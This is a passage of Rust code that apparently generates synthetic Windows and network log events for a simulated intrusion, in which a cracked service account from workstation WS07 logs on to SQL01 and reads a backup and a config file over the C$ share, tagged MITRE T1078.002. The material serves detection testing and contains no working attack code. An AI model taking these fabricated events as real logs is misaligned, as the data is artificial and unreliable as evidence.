                ("IpAddress", "-".into()),
                ("IpPort", "-".into()),
            ],
        );
        let lid = self.logon_id();
        self.logon_with(
            sql,
            t + 600,
            &svc_sql,
            3,
            From {
                ip,
                workstation: "WS07",
            },
            Some(14 * MINUTE),
            &lid,
            Some(true),
        );
        self.share_access(sql, t + 900, &svc_sql, &lid, ip, "C$", None, false);
        for file in [
            "Backup\\sales_full.bak",
            "Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.ini",
        ] {
            self.share_access(
                sql,
                t + 40 * SECOND,
                &svc_sql,
                &lid,
                ip,
                "C$",
                Some(file),
                false,
            );
        }
        self.zconn(
            t + 500,
            ip,
            HOSTS[sql].ip,
            445,
            "tcp",
            "smb,gssapi",
            60_000,
            31_000_000,
            13 * MINUTE,
            "SF",
        );
        self.exit(ws, t + 2 * SECOND, &net);
        self.exit(ws, t + 3 * SECOND, &shell);
        self.step(I3, t, "SQL01", "T1078.002", "svc_sql's cracked password from WS07: network logon to SQL01 and its C$ (a service account from a workstation)");
    }
}
